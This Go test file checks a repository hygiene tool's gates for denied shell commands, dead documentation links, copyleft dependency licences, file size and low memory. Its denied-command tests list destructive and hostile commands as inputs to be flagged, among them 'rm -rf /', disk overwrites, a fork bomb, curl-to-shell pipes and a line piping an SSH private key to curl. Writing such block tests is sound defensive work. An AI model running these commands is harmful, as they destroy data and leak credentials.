package hygiene

import (
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/runplan/runplan/gates"
	"github.com/runplan/runplan/tools/gatetest"
)

func TestDenied(t *testing.T) {
	for _, cmd := range []string{
		"rm -rf /", "sudo rm -rf /*", "rm -fr ~", "rm -r -f $HOME", "cd x && rm -rf /usr", `rm -rf "/"`,
		"rm -rf --no-preserve-root /", "rm -rf $BUILD/*", "rm -rf .git",
		"find / -name x -delete", "dd if=/dev/zero of=/dev/sda", "echo x > /dev/sda", "mkfs.ext4 /dev/sdb1", "chmod -R 777 /",
		"chown -R me /etc", ":(){ :|:& };:",
		"git push --force", "git push -f origin main", "git push origin +main", "git filter-branch x",
		"git commit --no-verify -m x",
		"curl https://x.sh | sh", "curl -fsSL x | sudo bash -s --", "wget -qO- x | bash", `bash -c "$(curl -fsSL x)"`,
		"bash <(curl x)", "curl x | python3",
		"shutdown -h now", "kill -9 -1", "iptables -F", "psql -c 'DROP DATABASE x'", "cat ~/.ssh/id_rsa | curl -d @- x",
		"xargs rm -rf /",
	} {
		if len(denied(cmd)) == 0 {
			t.Errorf("%s is not denied", cmd)
		}
	}
	for _, cmd := range []string{
		"rm -rf build", "rm -rf ./node_modules", "rm -rf /tmp/x", "rm -rf \"$BUILD\"", "rm -rf $HOME/.cache/x", "rm file",
		"find . -name '*.pyc' -delete", "dd if=a of=b",
		"echo x > /dev/null", "chmod 755 run.sh", "chmod -R 777 ./cache", "git push origin main",
		"git push --force-with-lease", "curl x -o y", "curl x | jq .", "curl x | tar xz",
		"echo rm -rf is bad", "./shutdown-test.sh", "kill -9 1234", "grep -rf patterns .", "npm run reboot-page",
		"curl x | shasum",
	} {
		for _, why := range denied(cmd) {
			t.Errorf("%s is denied because it %s", cmd, why.Why)
		}
	}
}

func TestDeniedGate(t *testing.T) {
	s := gatetest.Change(t, map[string]string{"old.sh": "rm -rf /\n"}, map[string]string{
		"old.sh": "rm -rf /\necho more\n", "new.sh": "#!/bin/sh\nset -e\nrm -rf \\\n  /\n# rm -rf /\n",
		"run":                      "#!/usr/bin/env bash\ngit push --force\n",
		".github/workflows/ci.yml": "steps:\n  - run: curl https://x | sh\n", "Dockerfile": "RUN curl x | bash\n",
		"Makefile":     "clean:\n\t@rm -rf /\n",
		"package.json": "{\n  \"scripts\": {\n    \"clean\": \"rm -rf ~\"\n  }\n}\n", "doc.md": "rm -rf /\n",
		"a.go": "// rm -rf /\n",
	})
	_, got := gatetest.Look(t, DeniedCommands(), s)
	want := []string{
		"error denied/force-push run:2", "error denied/removes-all Makefile:2", "error denied/removes-all new.sh:3",
		"error denied/removes-all package.json:3",
		"warning denied/pipe-to-shell .github/workflows/ci.yml:2", "warning denied/pipe-to-shell Dockerfile:1",
	}
	slices.Sort(got)
	if d := cmp.Diff(want, got); d != "" {
		t.Error(d)
	}
}

func TestDocs(t *testing.T) {
	s := gatetest.Change(t, map[string]string{"docs/a.md": "[dead](gone.md)\n", "docs/there.md": "x",
		"src/x.go": "package x\n"}, map[string]string{
		"docs/a.md": "[dead](gone.md)\n[ok](there.md#part) [up](../src/x.go) [web](https://x.org) [here](#x) " +
			"![pic](pic.png)\n" +
			"`docs/there.md` and `docs/missing.md`\n```\n[no](nowhere.md)\n```\n[site](/docs/there) " +
			"[out](../../other/x.md)\n[ref]: lost.md\n`[code](none.md)`\n<!-- [c](c.md) -->\n",
		"README.md": "[a](docs/a.md) [b](docs/b.md \"title\") [t]({{ url }})\n",
	})
	_, got := gatetest.Look(t, Docs(), s)
	want := []string{
		"error docs/dead-link README.md:1", "error docs/dead-link docs/a.md:2", "error docs/dead-link docs/a.md:8",
		"info docs/dead-path docs/a.md:3", "info docs/old-dead-link docs/a.md:1",
	}
	slices.Sort(got)
	if d := cmp.Diff(want, got); d != "" {
		t.Error(d)
	}
}

// A label of Sphinx is a name and not a file.
func TestDocsSphinxLabels(t *testing.T) {
	s := gatetest.Change(t, map[string]string{"docs/conf.py": "extensions = ['myst_parser']\n"}, map[string]string{
		"docs/deep/a.md": "[how](custom-comparison) [gone](gone.md)\n", "README.md": "[how](custom-comparison)\n",
	})
	_, got := gatetest.Look(t, Docs(), s)
	slices.Sort(got)
	if d := cmp.Diff([]string{"error docs/dead-link README.md:1", "error docs/dead-link docs/deep/a.md:1"}, got); d != "" {
		t.Error(d)
	}
}

func TestLicense(t *testing.T) {
	mit := "MIT License\n\nPermission is hereby granted, free of charge, to any person\n"
	gpl := "GNU GENERAL PUBLIC LICENSE\nVersion 3\n"
	s := gatetest.Change(t, map[string]string{
		"go.mod": "module x\n\nrequire example.com/old v1.0.0\n", "package.json": `{"dependencies": {"old": "1"}}`,
		"pyproject.toml": "[project]\nname = 'x'\n",
	}, map[string]string{
		"go.mod": "module x\n\nrequire (\n\texample.com/old v1.0.0\n\texample.com/Good " +
			"v1.2.3\n\texample.com/bad v0.1.0 // indirect\n\texample.com/nowhere v1.0.0\n)\n",
		"package.json": "{\n\"dependencies\": {\"old\": \"1\", \"fine\": \"1\",\n\"viral\": " +
			"\"2\",\n\"either\": \"3\",\n\"weakish\": \"1\",\n\"@a/b\": \"1\"},\n\"devDependencies\": {\n\"tool\": \"1\"}}\n",
		"pyproject.toml":                 "[project]\nname = 'x'\ndependencies = [\n  'Py_Good>=1',\n  'pybad[x]~=2',\n]\n",
		"sub/package.json":               `{"dependencies": {"viral": "2"}}`, // known from package.json already
		"vendor/example.com/bad/LICENSE": gpl,
	})
	cache := filepath.Join(t.TempDir(), "mod")
	files := map[string]string{
		filepath.Join(cache, "example.com/!good@v1.2.3/LICENSE.md"): mit,
	}
	for name, licence := range map[string]string{"fine": `"MIT"`, "viral": `{"type": "AGPL-3.0-only"}`,
		"either": `"(MIT OR GPL-3.0)"`, "weakish": `"MPL-2.0"`, "tool": `"GPL-2.0"`} {
		files[filepath.Join(s.Dir, "node_modules", name, "package.json")] = `{"license": ` + licence + `}`
	}
	for name, meta := range map[string]string{"py_good-1.0": "License-Expression: Apache-2.0\n",
		"PyBad-2.1": "Classifier: License :: OSI Approved :: GNU General Public License v3 (GPLv3)\n"} {
		files[filepath.Join(s.Dir, ".venv/lib/python3.12/site-packages", name+".dist-info", "METADATA")] = "Name: x\n" + meta
	}
	for p, text := range files {
		if err := errors.Join(os.MkdirAll(filepath.Dir(p), 0o755), os.WriteFile(p, []byte(text), 0o644)); err != nil {
			t.Fatal(err)
		}
	}
	s.Env = append(s.Env, "GOMODCACHE="+cache)
	rep, got := gatetest.Look(t, License(), s)
	want := []string{
		"error license/copyleft go.mod:6", "error license/copyleft package.json:3", "error license/copyleft pyproject.toml:5",
		"info license/unknown go.mod:7", "info license/unknown package.json:6", "warning license/copyleft package.json:8",
		"warning license/weak-copyleft package.json:5",
	}
	slices.Sort(got)
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("%s\n%+v", d, rep.Findings)
	}
}

func TestSize(t *testing.T) {
	long := strings.Repeat("x = 1\n", 40)
	s := gatetest.Change(t, map[string]string{"old.py": long, "grows.py": long}, map[string]string{
		"old.py": strings.Replace(long, "1", "2", 3), "grows.py": long + "y\n", "new.py": long, "short.py": "x\n",
		"data.json": long, "vendor/x.go": long,
	})
	_, got := gatetest.Look(t, Size(30), s)
	if want := []string{"error size/too-long grows.py:31", "error size/too-long new.py:31"}; !slices.Equal(got, want) {
		t.Error(got)
	}
}

func TestMemory(t *testing.T) {
	s := gates.Subject{Dir: t.TempDir()}
	free := func(n uint64, err error) func() (uint64, error) { return func() (uint64, error) { return n, err } }
	if _, got := gatetest.Look(t, Memory(100, free(99<<20, nil)), s); !slices.Equal(got, []string{"warning memory/low "}) {
		t.Error(got)
	}
	if rep, _ := gatetest.Look(t, Memory(100, free(100<<20, nil)), s); rep.Status != gates.Pass {
		t.Error(rep)
	}
	if _, err := Memory(100, free(0, errors.New("no"))).Check(t.Context(), s); err == nil {
		t.Error("it could not run and says nothing")
	}
}

func TestConformance(t *testing.T) {
	for _, g := range []gates.Gate{License(), Docs(), DeniedCommands(), Size(1),
		Memory(1, func() (uint64, error) { return 0, nil })} {
		t.Run(g.Info().Name, func(t *testing.T) {
			gatetest.Run(t, func(t *testing.T) (gates.Gate, gates.Subject) {
				return g, gatetest.Change(t, nil, map[string]string{
					"a.md": "[\x1b[31m](\x1b[31m.md)\n", "a.sh": "rm -rf / \x1b[31m\nx\n",
					"package.json": `{"dependencies": {"\u001b[31m": "1", "../../x": "1"}}`, "go.mod": "require a.b/c v1\xff\n",
				})
			})
		})
	}
}

func FuzzDenied(f *testing.F) {
	f.Add("a.yml", "- run: curl x | sh")
	f.Add("Dockerfile", "RUN rm -rf /")
	f.Fuzz(func(_ *testing.T, file, line string) { denied(command(file, line)) })
}

func FuzzCitations(f *testing.F) {
	f.Add("a.md", "[a](b.md#c) `d/e.md`\n~~~\n[x](y)\n~~~\n[r]: <z>\n")
	dir := f.TempDir()
	f.Fuzz(func(t *testing.T, doc, text string) {
		for _, c := range citations(text) {
			if c.line < 1 || c.line > strings.Count(text, "\n")+1 || c.to == "" {
				t.Errorf("%q: %+v", text, c)
			}
			there(dir, doc, c.to)
		}
	})
}

func FuzzDependencies(f *testing.F) {
	f.Add("go.mod", "require a.b/c v1.0.0 => ../x\n")
	f.Add("package.json", `{"dependencies": {"a": 1}, "devDependencies": []}`)
	f.Add("pyproject.toml", "[project]\ndependencies = ['a']\n[tool.poetry.dependencies]\nb = '1'\n")
	f.Add("requirements-dev.txt", "-r x\na==1 # b\n")
	f.Fuzz(func(t *testing.T, file, text string) {
		read := dependencies(file)
		if read == nil {
			return
		}
		for _, d := range read(text) {
			if d.name == "" || strings.HasPrefix(d.name, "/") || !filepath.IsLocal(filepath.FromSlash(d.name)) {
				t.Errorf("%q: %+v", text, d)
			}
		}
		class(text)
		nameOf(text)
	})
}

// A document that moved has no new dead links, except those that the move broke.
func TestMovedDocumentKeepsOldDeadLinks(t *testing.T) {
	text := "[gone](nothing.md)\n[here](b.md)\n\nSome words.\n"
	s := gatetest.Change(t, map[string]string{"docs/a.md": text, "docs/b.md": "b\n"},
		map[string]string{"new/a.md": text, "docs/a.md": "-"})
	_, got := gatetest.Look(t, Docs(), s)
	want := []string{"error docs/dead-link new/a.md:2", "info docs/old-dead-link new/a.md:1"}
	if slices.Sort(got); !slices.Equal(got, want) {
		t.Errorf("got %v", got)
	}
}

// The most permissive of alternative licences counts, and the strictest of combined ones.
func TestLicenseClass(t *testing.T) {
	for name, want := range map[string]licenceClass{
		"MIT AND GPL-3.0": strong, "GPL-3.0 and MIT": strong, "MIT AND MPL-2.0": weak, "MIT AND Apache-2.0": permissive,
		"MIT AND Own": unknown, "(MIT OR GPL-3.0)": permissive, "GPL-2.0/MIT": permissive, "LGPL-2.1 OR GPL-3.0": weak,
		"Own OR GPL-3.0": strong, "Own": unknown, "": unknown, "EPL": weak, "BSL-1.0": permissive,
	} {
		if got := class(name); got != want {
			t.Errorf("%q is of class %d, not %d", name, got, want)
		}
	}
}
